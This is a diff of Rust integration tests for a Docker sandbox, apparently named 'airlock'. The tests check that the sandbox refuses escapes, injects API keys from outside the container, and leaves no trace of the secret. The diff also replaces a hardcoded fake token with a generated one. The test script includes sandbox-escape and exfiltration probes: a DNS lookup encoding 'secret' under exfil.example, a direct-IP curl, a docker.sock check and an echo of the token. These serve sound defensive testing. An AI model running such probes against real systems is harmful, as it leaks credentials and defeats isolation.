@@ -24,9 +24,6 @@ use support::{TestPki, Upstream};
 
 /// The image the tests run.
 const IMAGE: &str = "airlock-test-sandbox:1";
-/// The value only the upstream knows.
-const REAL: &str = "ghp_R3alDock3rT0kenOnlyTheServerKnows042";
-
 /// Whether Docker can be used here (root, engine answering); builds the test image.
 fn docker_ready(test: &str) -> bool {
     // SAFETY: geteuid has no preconditions.
@@ -85,6 +82,7 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
     if !docker_ready("a_docker_sandbox_streams_refuses_every_escape") {
         return;
     }
+    let real = sandbox::real_secret();
     let pki = TestPki::new();
     let upstream = Upstream::tls(&pki);
     let port = upstream.port();
@@ -103,7 +101,7 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
         "--pids".into(),
         "64".into(),
     ];
-    create(&home, "box", &flags, &[("API_TOKEN", REAL)]);
+    create(&home, "box", &flags, &[("API_TOKEN", real.as_str())]);
     assert_eq!(containers_of(&home).len(), 1);
 
     let run = home.exec_json("box", "echo out; echo err >&2; pwd; exit 5");
@@ -118,7 +116,7 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
          curl -sS --max-time 5 http://198.51.100.9:8081/ >/dev/null 2>&1 || echo PORT-CLOSED; \
          nslookup -type=txt c2VjcmV0.exfil.example 192.0.2.53 >/dev/null 2>&1; echo DNS-ASKED; \
          ip -o link | wc -l; ls /var/run/docker.sock 2>/dev/null | wc -l; \
-         echo \"$API_TOKEN\"; env | grep -c {REAL}"
+         echo \"$API_TOKEN\"; env | grep -c {real}"
     );
     let run = home.exec_json_with("box", &["--timeout", "100"], &script);
     let out = &run.stdout;
@@ -136,13 +134,13 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
     assert_eq!(out[4], "DNS-ASKED", "{run:?}");
     assert_eq!(out[5], "1", "only lo inside the container: {run:?}");
     assert_eq!(out[6], "0", "no engine socket inside: {run:?}");
-    assert_eq!(out[7].len(), REAL.len(), "{run:?}");
-    assert_ne!(out[7], REAL);
+    assert_eq!(out[7].len(), real.as_str().len(), "{run:?}");
+    assert_ne!(out[7], real.as_str());
     assert_eq!(out[8], "0", "{run:?}");
     // The upstream got the real key; it was hit exactly once (the direct IP went nowhere).
     assert_eq!(upstream.hit_count(), 1);
     let hit = upstream.hits().pop().expect("hit");
-    assert!(hit.headers.iter().any(|(n, v)| n.eq_ignore_ascii_case("authorization") && v == &format!("Bearer {REAL}")));
+    assert!(hit.headers.iter().any(|(n, v)| n.eq_ignore_ascii_case("authorization") && v == &format!("Bearer {real}")));
     let audit = home.audit_text("box");
     for expected in [
         "\"host\":\"refused.example\"",
@@ -154,7 +152,7 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
             "{expected} not in the audit log:\n{audit}"
         );
     }
-    assert!(!audit.contains(REAL));
+    assert!(!audit.contains(real.as_str()));
 
     // The limits reached the container.
     let inspect = Command::new("docker")
@@ -183,7 +181,10 @@ fn a_docker_sandbox_streams_refuses_every_escape_and_rm_leaves_nothing() {
     assert!(containers_of(&home).is_empty(), "a container survived rm");
     assert!(!home.sandbox_dir("box").exists());
     assert!(wait_until(Duration::from_secs(5), || !alive(daemon)));
-    assert_eq!(files_containing(&home.root(), REAL), Vec::<String>::new());
+    assert_eq!(
+        files_containing(&home.root(), real.as_str()),
+        Vec::<String>::new()
+    );
 }
 
 #[test]
@@ -191,13 +192,14 @@ fn a_docker_sandbox_clones_exports_pushes_and_survives_a_killed_daemon() {
     if !docker_ready("a_docker_sandbox_clones_exports_pushes") {
         return;
     }
+    let real = sandbox::real_secret();
     let pki = TestPki::new();
     let home = SandboxHome::new();
     let repos = home.scratch().join("repos");
     std::fs::create_dir_all(&repos).expect("repos");
     make_repository(&repos, &home.scratch());
     let source = home.scratch().join("source");
-    let server = FixtureServer::git_with_password(&pki, &repos, REAL);
+    let server = FixtureServer::git_with_password(&pki, &repos, real.as_str());
     let flags: Vec<String> = vec![
         "--resolve".into(),
         "other.test:127.0.0.1".into(),
@@ -210,7 +212,7 @@ fn a_docker_sandbox_clones_exports_pushes_and_survives_a_killed_daemon() {
         "--repo".into(),
         source.to_string_lossy().into_owned(),
     ];
-    create(&home, "dock", &flags, &[("GIT_TOKEN", REAL)]);
+    create(&home, "dock", &flags, &[("GIT_TOKEN", real.as_str())]);
     let script = format!(
         "pwd; git rev-parse --abbrev-ref HEAD; echo change > agent.txt && git add agent.txt && \
          git -c user.name=agent -c user.email=agent@example.invalid commit -q -m 'docker change' && echo COMMITTED; \
@@ -266,7 +268,10 @@ fn a_docker_sandbox_clones_exports_pushes_and_survives_a_killed_daemon() {
     assert_eq!(line["status"], "dead", "{line}");
     home.must(&["rm", "dock"]);
     assert!(!home.sandbox_dir("dock").exists());
-    assert_eq!(files_containing(&home.root(), REAL), Vec::<String>::new());
+    assert_eq!(
+        files_containing(&home.root(), real.as_str()),
+        Vec::<String>::new()
+    );
 }
 
 #[test]
@@ -274,18 +279,19 @@ fn an_llm_route_answers_inside_a_docker_sandbox_with_the_key_injected_outside() 
     if !docker_ready("an_llm_route_answers_inside_a_docker_sandbox") {
         return;
     }
+    let real = sandbox::real_secret();
     let pki = TestPki::new();
     let upstream = Upstream::tls(&pki);
     let home = SandboxHome::new();
     let flags = llm_route_flags(&home, upstream.port(), &pki.upstream_ca_cert);
-    create(&home, "llm", &flags, &[("LLM_KEY", REAL)]);
+    create(&home, "llm", &flags, &[("LLM_KEY", real.as_str())]);
     let run = home.exec_json(
         "llm",
         "curl -sS --max-time 20 -H 'Authorization: Bearer agent-chosen-key' \
          http://airlock.internal/llm/fake/models; echo",
     );
     let hit = upstream.hits().pop().expect("the upstream was reached");
-    assert_routed(&run, &hit, "/api/v1/models", REAL);
+    assert_routed(&run, &hit, "/api/v1/models", real.as_str());
     home.must(&["rm", "llm"]);
     assert!(containers_of(&home).is_empty());
 }
